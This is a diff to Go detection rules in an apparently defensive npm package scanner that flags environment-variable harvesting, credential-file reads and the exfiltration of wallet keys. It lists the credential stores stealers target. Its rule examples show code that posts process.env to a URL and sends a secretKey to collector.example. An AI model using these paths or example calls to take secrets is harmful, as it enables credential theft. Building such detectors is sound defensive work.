@@ -20,7 +20,7 @@ type EnvHarvest struct{}
 // Meta implements analyze.Rule.
 func (EnvHarvest) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "cred/env-harvest", Version: 10, Title: "Harvests environment variables",
+		ID: "cred/env-harvest", Version: 11, Title: "Harvests environment variables",
 		Help: "The code serialises or iterates the whole process.env (which holds CI tokens, cloud keys and registry credentials), or reads " +
 			"several token-named variables, by name or through a list of names (process.env[k] for each k; in a file over 64 KiB only " +
 			"names within 2,000 bytes of that read count). Critical when the whole " +
@@ -32,7 +32,9 @@ func (EnvHarvest) Meta() analyze.Meta {
 			"Object.assign(process.env, …) writes to it and is not a read. Install-time code that puts one token-named variable " +
 			"(NPM_TOKEN, GITHUB_TOKEN…) into a request to a constant URL on a host that is not a registry or a known service is critical. " +
 			"Install-time code that reads ACTIONS_ID_TOKEN_REQUEST_TOKEN or _URL (what a GitHub Actions job mints its OIDC identity " +
-			"token with, which registries and clouds accept as the repository) and sends to such a host is critical too. " +
+			"token with, which registries and clouds accept as the repository) and sends to such a host is critical too. Code that " +
+			"reads ACTIONS_RUNTIME_TOKEN (the key to GitHub's cache and artifact services, whose URLs come with it) and sends to " +
+			"such a host is high anywhere; a call of the file's request helper with a constant URL counts as a request. " +
 			"Passing {...process.env} to a child process is normal and not reported.",
 		Remediation:     "Check where the values go; rotate the exposed tokens if the package ran in CI.",
 		Example:         `fetch(url, { method: "POST", body: JSON.stringify(process.env) })`,
@@ -152,6 +154,18 @@ func (EnvHarvest) Check(ctx context.Context, t *analyze.Target, r analyze.Report
 				token(e.Name, e.Pos, e.Snippet)
 			}
 		}
+		if !reported && t.Role(f.Name) != analyze.RoleInstall {
+			if e, host := runnerTokenSent(t, f.Facts); host != "" {
+				// the token of GitHub's own cache and artifact services,
+				// whose URLs come with it in the environment: nothing
+				// else has a use for it
+				reported = true
+				r.Report(analyze.Instance{File: f.Name, Line: e.Pos.Line, Severity: finding.SeverityHigh, Confidence: finding.ConfidenceHigh,
+					Message:  fmt.Sprintf("reads the CI runner's %s and sends to %s", e.Name, host),
+					Evidence: rulekit.Ev(e.Snippet.String(), e.Name, host)})
+				continue
+			}
+		}
 		if !reported && t.Role(f.Name) == analyze.RoleInstall {
 			if e, host := oidcTheft(t, f.Facts); host != "" {
 				reported = true
@@ -220,6 +234,26 @@ func oidcTheft(t *analyze.Target, f *jsast.Facts) (jsast.EnvRead, string) {
 	return read, ""
 }
 
+// runnerTokenSent returns the read of ACTIONS_RUNTIME_TOKEN and the host of
+// a constant URL the file sends to that is not trusted for the package;
+// "" when the file does not do both.
+func runnerTokenSent(t *analyze.Target, f *jsast.Facts) (jsast.EnvRead, string) {
+	for _, e := range f.Env {
+		if e.Name != "ACTIONS_RUNTIME_TOKEN" {
+			continue
+		}
+		for _, c := range f.Calls {
+			if rulekit.IsNetCall(c) && len(c.Args) > 0 {
+				if u := rulekit.ExternalURL(t, rulekit.Text(c.Args[0])); u != "" {
+					return e, rulekit.Host(u)
+				}
+			}
+		}
+		break
+	}
+	return jsast.EnvRead{}, ""
+}
+
 // spawns reports a file that starts processes.
 func spawns(f *jsast.Facts) bool {
 	return slices.ContainsFunc(f.Calls, rulekit.IsSpawn)
@@ -249,7 +283,7 @@ type FileAccess struct{}
 // Meta implements analyze.Rule.
 func (FileAccess) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "cred/file-access", Version: 11, Title: "Reads credential files",
+		ID: "cred/file-access", Version: 12, Title: "Reads credential files",
 		Help: "The code names a credential store: SSH keys, cloud CLI credentials, .npmrc, browser profiles (Login Data, Cookies, Local Storage), " +
 			"crypto wallet files and extension IDs, Discord token storage, /etc/shadow. Stealers enumerate exactly these paths. A file that " +
 			"also honours the store's own override variable (AWS_SHARED_CREDENTIALS_FILE, KUBECONFIG, CLOUDSDK_CONFIG...) implements that " +
@@ -269,7 +303,13 @@ func (FileAccess) Meta() analyze.Meta {
 			"own override variables (AWS_EC2_METADATA_DISABLED, GCE_METADATA_HOST, KUBERNETES_SERVICE_HOST…) are low. Install-time " +
 			"code that reads the project's .env next to a network call is high. Other tools' logins and sessions count too: Terraform's " +
 			"credentials.tfrc.json (low when TF_CLI_CONFIG_FILE is honoured), Telegram Desktop's tdata, 1Password's and Bitwarden's " +
-			"data, Slack's cookies.",
+			"data, Slack's cookies. An SSH key named in a file that loads an SSH client library (ssh2, node-ssh…) and makes no other " +
+			"network call, outside install-time code, is low: a deploy tool connecting where its user says. The profile roots of one or two " +
+			"browsers alone (Chrome/User Data, Edge/User Data) are where a browser launcher finds a profile: medium, next to a network " +
+			"call too, and low when the file honours CHROME_USER_DATA_DIR. A Kubernetes service-account token or a metadata service's " +
+			"credential path (one or two of them, nothing else) read by a file that makes no request to a constant host outside this " +
+			"machine, outside install-time code, is medium (a cloud SDK's workload identity exchanging it), low when the file honours " +
+			"AZURE_FEDERATED_TOKEN_FILE or AWS_WEB_IDENTITY_TOKEN_FILE.",
 		Remediation:     "Remove the package unless it is a tool whose job is to manage those credentials.",
 		Example:         `fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"))`,
 		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigCred, Needs: analyze.NeedCode,
@@ -481,9 +521,10 @@ func (FileAccess) Check(ctx context.Context, t *analyze.Target, r analyze.Report
 			}
 		}
 		configFile := best == 1 // .npmrc, .yarnrc: config that can hold a token
+		profileRoots := false
 		if best == 2 && len(strong) < 3 && onlyProfileRoots(strong) {
 			// "Chrome/User Data" alone is where a browser launcher looks
-			best = 1
+			best, profileRoots = 1, true
 		}
 		if len(strong) >= 3 {
 			reads = true // a target list of stores: a stealer
@@ -501,9 +542,15 @@ func (FileAccess) Check(ctx context.Context, t *analyze.Target, r analyze.Report
 		}
 		sev := finding.SeverityMedium
 		switch {
+		case best == 2 && reads && len(strong) < 3 && machineOnly(strong) && !sendsOut(t, f.Facts) && t.Role(f.Name) != analyze.RoleInstall:
+			// a cloud SDK's workload identity reads the pod's token to
+			// exchange it with its own service; alone, with no request to
+			// a constant host out there, that is a machine credential
+			// used as meant
+			sev = finding.SeverityMedium
 		case best == 2 && reads:
 			sev = finding.SeverityHigh
-		case best == 1 && reads && network && f.Facts.Size < jsast.BundleSize:
+		case best == 1 && reads && network && f.Facts.Size < jsast.BundleSize && !profileRoots:
 			sev = finding.SeverityHigh // reads .npmrc or /etc/passwd next to a network call
 		case best == 1 && !reads:
 			sev = finding.SeverityLow
@@ -511,6 +558,14 @@ func (FileAccess) Check(ctx context.Context, t *analyze.Target, r analyze.Report
 			// a config reader (.npmrc's registry, .yarnrc's settings)
 			// with nowhere to send what it reads
 			sev = finding.SeverityLow
+		}
+		if len(strong) < 3 && !network && t.Role(f.Name) != analyze.RoleInstall && strings.Contains(what, ".ssh") {
+			// a deploy tool handing the user's key to its SSH client
+			if m := sshClient(f.Facts); m != "" {
+				r.Report(analyze.Instance{File: f.Name, Line: line, Severity: finding.SeverityLow,
+					Message: fmt.Sprintf("looks up SSH key %q for the SSH client it loads (%s)", what, m), Evidence: rulekit.Ev(snip, "", "")})
+				continue
+			}
 		}
 		if len(strong) < 3 {
 			if v := override(f.Facts, what); v != "" {
@@ -563,6 +618,44 @@ func onlyProfileRoots(strong map[string]bool) bool {
 	return true
 }
 
+// machineOnly reports stores that are all a machine's own workload
+// identity: the pod's service-account token, the cloud metadata
+// services' credential paths (what a cloud SDK's provider chain asks).
+func machineOnly(strong map[string]bool) bool {
+	for k := range strong {
+		if !strings.Contains(k, "serviceaccount") && !strings.Contains(k, "service-accounts") && !strings.Contains(k, "security-credentials") {
+			return false
+		}
+	}
+	return len(strong) > 0
+}
+
+// sendsOut reports a request of the file to a constant URL on a host that
+// is neither this machine's (the cloud metadata services are link-local)
+// nor trusted.
+func sendsOut(t *analyze.Target, f *jsast.Facts) bool {
+	for _, c := range f.Calls {
+		if rulekit.IsNetCall(c) && len(c.Args) > 0 && rulekit.ExternalURL(t, rulekit.Text(c.Args[0])) != "" {
+			return true
+		}
+	}
+	return false
+}
+
+// sshClients are SSH client libraries: a file loading one uses an SSH
+// key to connect where its user says.
+var sshClients = map[string]bool{"ssh2": true, "node-ssh": true, "ssh2-sftp-client": true, "simple-ssh": true, "ssh2-promise": true}
+
+// sshClient returns the SSH client library the file loads, "" if none.
+func sshClient(f *jsast.Facts) string {
+	for _, im := range f.Imports {
+		if sshClients[im.Module] {
+			return im.Module
+		}
+	}
+	return ""
+}
+
 // overrides are the variables each credential store's own tool reads to
 // find it elsewhere, keyed by a piece of the store's path.
 var overrides = []struct {
@@ -580,9 +673,11 @@ var overrides = []struct {
 	{"security-credentials", []string{"AWS_EC2_METADATA_DISABLED", "AWS_EC2_METADATA_SERVICE_ENDPOINT", "AWS_EC2_METADATA_V1_DISABLED",
 		"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "AWS_CONTAINER_CREDENTIALS_FULL_URI", "GCE_METADATA_HOST", "GCE_METADATA_IP", "IDENTITY_ENDPOINT", "IMDS_ENDPOINT", "MSI_ENDPOINT", "AZURE_POD_IDENTITY_AUTHORITY_HOST"}},
 	{"service-accounts", []string{"GCE_METADATA_HOST", "GCE_METADATA_IP", "METADATA_SERVER_DETECTION"}},
-	{"serviceaccount", []string{"KUBERNETES_SERVICE_HOST"}},
+	{"serviceaccount", []string{"KUBERNETES_SERVICE_HOST", "AZURE_FEDERATED_TOKEN_FILE", "AWS_WEB_IDENTITY_TOKEN_FILE"}},
 	{"hosts.yml", []string{"GH_CONFIG_DIR"}},
 	{".terraform.d", []string{"TF_CLI_CONFIG_FILE", "TERRAFORM_CONFIG"}},
+	// Chrome's own variables for its profile directory
+	{"user data", []string{"CHROME_USER_DATA_DIR", "CHROME_CONFIG_HOME"}},
 }
 
 // override returns the override variable of the store named in what that
@@ -615,11 +710,13 @@ type SecretExfil struct{}
 // Meta implements analyze.Rule.
 func (SecretExfil) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "cred/secret-exfil", Version: 3, Title: "Sends private keys or seed phrases to the network",
+		ID: "cred/secret-exfil", Version: 4, Title: "Sends private keys or seed phrases to the network",
 		Help: "A value named like a private key, secret key, mnemonic or seed phrase is passed to a network call, or to a local function whose body " +
 			"posts to a hard-coded URL (a bare call counts only when it calls that very function: bundles reuse one-letter names, and a name " +
 			"alone would match them all). In a file that loads a wallet library (ethers, web3, bip39, @solana/web3.js…) the short names " +
-			"such code uses count too: pk, phrase, words (fromMnemonic(phrase) posting phrase); key alone is every cache's. Wallet libraries sign locally; sending key material anywhere is theft (the @solana/web3.js 1.95.6-7 backdoor).",
+			"such code uses count too: pk, phrase, words (fromMnemonic(phrase) posting phrase); key alone is every cache's. Wallet libraries sign locally; sending key " +
+			"material anywhere is theft (the @solana/web3.js 1.95.6-7 backdoor). SECRET_KEY in upper case, as configuration spells it, is a " +
+			"service's API secret, which its SDK sends to that service to authenticate: it counts only in a file that loads a wallet library.",
 		Remediation:     "Do not use this version; move funds from any key it handled.",
 		Example:         `function q(k){ fetch("https://collector.example/q", {headers: {"x-id": k}}) } q(keypair.secretKey)`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigWallet, Needs: analyze.NeedCode,
@@ -627,6 +724,11 @@ func (SecretExfil) Meta() analyze.Meta {
 }
 
 var secretName = regexp.MustCompile(`(?i)^_?(private_?key|secret_?key|mnemonic|seed_?phrase|seed|priv_?key|wallet_?key|keypair)s?$`)
+
+// apiSecretName matches a service's API secret as configuration spells
+// it (SECRET_KEY): an SDK sends it to its own service to authenticate.
+// A key pair's secretKey is written in camel case.
+var apiSecretName = regexp.MustCompile(`^_?SECRET_?KEYS?$`)
 
 // walletSecretName matches the short names wallet code gives key material
 // (fromMnemonic(phrase), sign(pk)): counted only in a file that loads a
@@ -657,7 +759,7 @@ func (SecretExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Repor
 			for _, a := range c.Args {
 				hit := ""
 				for _, n := range a.Names {
-					if secretName.MatchString(n) || wallet && walletSecretName.MatchString(n) {
+					if secretName.MatchString(n) && (wallet || !apiSecretName.MatchString(n)) || wallet && walletSecretName.MatchString(n) {
 						hit = n
 						break
 					}
